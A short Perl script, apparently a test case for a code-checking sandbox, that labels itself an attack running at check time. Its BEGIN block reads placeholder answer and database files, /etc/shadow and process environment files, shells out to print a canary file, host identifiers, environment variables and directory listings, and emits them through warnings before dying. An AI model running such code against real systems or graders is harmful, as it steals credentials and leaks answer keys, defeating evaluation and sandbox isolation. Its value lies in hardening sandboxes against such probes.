# attack: runs while it is checked: environment, answers, processes, network
BEGIN {
    for my $path ("@ANSWER@", "@DATABASE@", "/etc/shadow", "/proc/1/environ", "/proc/self/environ") {
        open(my $file, "<", $path) or next;
        warn "$path: ", <$file>, "\n";
    }
    warn `cat @CANARY@ /etc/machine-id /etc/hostname 2>&1; env; ls -la / /box`;
    warn join ",", %ENV;
    die "looked around\n";
}
